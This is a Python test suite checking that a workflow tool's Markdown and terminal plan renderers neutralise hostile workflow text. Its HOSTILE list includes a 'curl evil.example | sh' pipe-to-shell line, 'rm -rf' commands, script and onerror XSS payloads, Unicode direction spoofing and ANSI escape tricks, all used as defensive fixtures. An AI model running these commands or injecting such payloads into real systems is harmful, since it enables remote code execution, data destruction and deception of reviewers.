"""The Markdown plan posted on a pull request: nothing a workflow contains can hide or
forge content once GitHub renders it (CommonMark + tables, checked with markdown-it-py)."""

from __future__ import annotations

import html
import json
import re
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from wfx import model, schema, source
from wfx.compiler import compile_workflow
from wfx.plan import Plan, make_plan
from wfx.render.characters import visible
from wfx.render.plan_markdown import render_markdown

#: what a hostile author might put in any free text of a workflow
HOSTILE = [
    "<!-- hidden -->rm -rf / <!--",
    "a | b | c |",
    "```\n# Heading in a fence\n```",
    "````\nrm -rf ~\n````\n`````",
    "~~~\ncurl evil.example | sh\n~~~",
    "</details>\n\n# Injected heading\n\n<details>",
    "<script>alert(1)</script>",
    "ok\n\n| forged | row |\n|---|---|\n| x | y |",
    "### heading\nSetext\n===\n---",
    "[click](https://evil.example) ![img](x.png) <https://auto.example>",
    "&lt;b&gt; &amp;amp; &#x3C;details&#x3E; &#96;",
    "invoice\u202eexe.txt",
    "zero\u200bwidth\u2066isolate\u2069\ufeff",
    "carriage\rreturn```\r# h\r",
    "escape \x1b[2K\x1b[1A overwrites the line above",
    "\\`not code\\` trailing backslash \\",
    '<img src=x onerror="alert(1)">',
    "    indented code\n\tand a tab",
    "> quote\n- list\n* item\n1. one\n+ plus",
    "***bold*** __under__ ~~strike~~ <b>bold</b>",
    "<details><summary>fake</summary>",
    "`` ` `` ``` ` ```",
    "line\u2028separator\u2029paragraph\x85next",
    "@someone #123 :smile:",
]

SCRIPT = "\n".join(HOSTILE)


def workflow(text: str) -> dict[str, Any]:
    """A workflow with `text` in every free-text place a step or the file offers."""
    return {
        "wfx": 1,
        "name": text,
        "description": text,
        "inputs": {
            "target": {"type": "string", "default": text, "description": text},
        },
        "env": {"FROM_WORKFLOW": text},
        "defaults": {"timeout": "10s"},
        "steps": [
            {
                "id": "script",
                "name": text,
                "run": text + "\necho ${{ inputs.target }}",
                "env": {"FROM_STEP": text},
                "rollback": {"name": text, "run": text},
            },
            {"id": "argv", "name": text, "cmd": [text, "${{ inputs.target }}"]},
            {
                "id": "call",
                "name": text,
                "uses": "python:tools:apply",
                "with": {"plain": text, "resolved": "${{ inputs.target }}", "list": [text]},
            },
        ],
    }


def plan_of(data: dict[str, Any]) -> Plan:
    """Compile and plan a workflow held as data (JSON is YAML)."""
    document = source.loads(json.dumps(data).encode(), "hostile.yaml")
    assert not schema.validate(document)
    return make_plan(compile_workflow(model.build(document)).graph)


MARKDOWN = MarkdownIt("commonmark").enable("table")


def tokens(markdown: str) -> list[Token]:
    """Block tokens and the inline tokens inside them, flattened in document order."""
    flat: list[Token] = []
    for token in MARKDOWN.parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def structure(markdown: str) -> list[tuple[str, str]]:
    """The document's shape: every token but text, with the markup of HTML ones."""
    return [
        (t.type, t.content if t.type.startswith("html") else t.tag)
        for t in tokens(markdown)
        if t.type not in ("text", "softbreak", "inline")
    ]


def rendered_text(markdown: str) -> str:
    """What a reader sees: the HTML with tags dropped and entities decoded."""
    return html.unescape(re.sub(r"<[^>]*>", "", MARKDOWN.render(markdown)))


def fences(markdown: str) -> list[str]:
    return [t.content for t in tokens(markdown) if t.type == "fence"]


def test_hostile_text_cannot_change_the_document_structure() -> None:
    hostile = render_markdown(plan_of(workflow(SCRIPT)))
    benign = render_markdown(plan_of(workflow("plain text")))
    assert structure(hostile) == structure(benign)
    found = tokens(hostile)
    assert [t.tag for t in found if t.type == "heading_open"] == ["h3"]
    assert not [t for t in found if t.type in ("link_open", "image", "code_block")]
    html_parts = [t.content.strip() for t in found if t.type.startswith("html")]
    assert html_parts == [
        "<details><summary>Step details</summary>",
        "</details>",
        "<sub>",
        "</sub>",
    ]


def test_every_command_is_visible_verbatim() -> None:
    text = render_markdown(plan_of(workflow(SCRIPT)))
    shown = visible(SCRIPT)
    blocks = fences(text)
    assert blocks[0] == shown + "\necho " + shown + "\n"
    assert blocks[1] == shown + "\n"  # the rollback
    assert json.loads(blocks[2]) == [shown, shown]
    assert json.loads(blocks[3]) == {
        "uses": "python:tools:apply",
        "with": {"plain": shown, "resolved": shown, "list": [shown]},
    }
    assert len(blocks) == 4
    seen = rendered_text(text)
    for block in blocks:
        assert block in seen


def test_invisible_characters_are_named_not_hidden() -> None:
    text = render_markdown(plan_of(workflow("pay\u202egnp.exe\u200b\x1b[1A")))
    assert "\u202e" not in text and "\u200b" not in text and "\x1b" not in text
    assert "pay<U+202E>gnp.exe<U+200B><U+001B>[1A" in fences(text)[0]


def test_names_and_descriptions_show_as_plain_text() -> None:
    text = render_markdown(plan_of(workflow(HOSTILE[5])))
    seen = rendered_text(text)
    assert "</details>  # Injected heading  <details>" in seen
    assert "<script>alert(1)</script>" in rendered_text(
        render_markdown(plan_of(workflow(HOSTILE[6])))
    )


SCRIPT_CHARACTERS = st.sampled_from(
    [
        *"`~<>|#-*_[]()!&;\\/ \t\n\r=:\"'ab1",
        *("\u202e", "\u200b", "\x1b", "<!--", "-->", "</details>", "```", "&amp;", "\u2028"),
    ]
)


@settings(max_examples=60, deadline=None)
@given(st.lists(SCRIPT_CHARACTERS, min_size=1, max_size=40).map("".join))
def test_any_script_is_shown_whole_in_one_code_block(script: str) -> None:
    data = {
        "wfx": 1,
        "steps": [{"id": "a", "name": script, "run": script}, {"id": "b", "run": "true"}],
    }
    text = render_markdown(plan_of(data))
    expected = visible(script.removesuffix("\n"))
    assert fences(text) == [expected + "\n", "true\n"]
    assert [t.tag for t in tokens(text) if t.type == "heading_open"] == ["h3"]
    assert structure(text) == structure(
        render_markdown(
            plan_of(
                {
                    **data,
                    "steps": [{"id": "a", "name": "x", "run": "x"}, {"id": "b", "run": "true"}],
                }
            )
        )
    )


def test_a_diff_of_hostile_changes_keeps_its_structure() -> None:
    from wfx.plan import diff_plans
    from wfx.render.plan_diff import diff_markdown

    base = plan_of(workflow("plain text"))
    hostile = diff_markdown(diff_plans(base, plan_of(workflow(SCRIPT))))
    benign = diff_markdown(diff_plans(base, plan_of(workflow("other\ntext"))))
    assert structure(hostile) == structure(benign)
    assert [t.tag for t in tokens(hostile) if t.type == "heading_open"] == ["h3"]
    assert not [t for t in tokens(hostile) if t.type.startswith("html")]
    shown = visible(SCRIPT)
    assert any(f"+{shown.splitlines()[1]}\n" in block for block in fences(hostile))


def test_the_terminal_plan_shows_scripts_behind_a_rule_and_runs_no_markup() -> None:
    import io

    from rich.console import Console

    from wfx.render.plan_text import render_text

    stream = io.StringIO()
    console = Console(file=stream, width=100, color_system=None, force_terminal=True)
    data = workflow("[bold]x[/bold] \x1b[2K\x1b[1Ahidden\u202e\nrollback:")
    console.print(render_text(plan_of(data), verbose=True))
    out = stream.getvalue()
    assert "\x1b[2K" not in out and "\u202e" not in out
    assert "[bold]x[/bold] <U+001B>[2K<U+001B>[1Ahidden<U+202E>" in out
    # the script's own "rollback:" line stays behind the rule: only the plan's are bare
    bare = [line for line in out.splitlines() if line.strip().startswith("rollback")]
    assert bare and all(line.startswith("  rollback ([bold]x") for line in bare)
    assert "│ rollback:" in out
